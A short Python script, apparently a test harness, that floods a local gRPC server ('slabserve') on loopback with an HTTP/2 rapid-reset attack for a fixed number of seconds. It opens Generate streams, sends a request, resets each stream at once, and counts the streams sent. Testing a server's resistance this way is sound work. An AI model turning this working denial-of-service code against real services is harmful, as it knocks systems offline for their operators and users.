"""HTTP/2 rapid reset against slabserve on loopback: open Generate streams and
reset each at once (HEADERS, DATA, RST_STREAM), for a bounded time.

Usage: rapid_reset.py PORT SECONDS  -- prints the number of streams sent.
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.exceptions

# GenerateRequest{token_ids: {ids: [2, 3]}, max_tokens: 4}, gRPC-framed.
BODY = bytes([0x1A, 0x04, 0x0A, 0x02, 0x02, 0x03, 0x20, 0x04])
FRAME = b"\x00" + len(BODY).to_bytes(4, "big") + BODY


def flood(port, seconds):
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "POST"), (":scheme", "http"),
               (":path", "/slabserve.v1.Slabserve/Generate"),
               (":authority", f"127.0.0.1:{port}"),
               ("content-type", "application/grpc"), ("te", "trailers")]
    sock.setblocking(False)
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(100):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers)
            conn.send_data(stream, FRAME)
            conn.reset_stream(stream)
            sent += 1
        try:
            sock.sendall(conn.data_to_send())
            while True:
                data = sock.recv(65536)
                if not data:
                    return sent  # the server closed the connection
                conn.receive_data(data)
                sock.sendall(conn.data_to_send())
        except BlockingIOError:
            pass
        except (ConnectionError, h2.exceptions.ProtocolError):
            return sent
    sock.close()
    return sent


if __name__ == "__main__":
    print(flood(int(sys.argv[1]), float(sys.argv[2])))
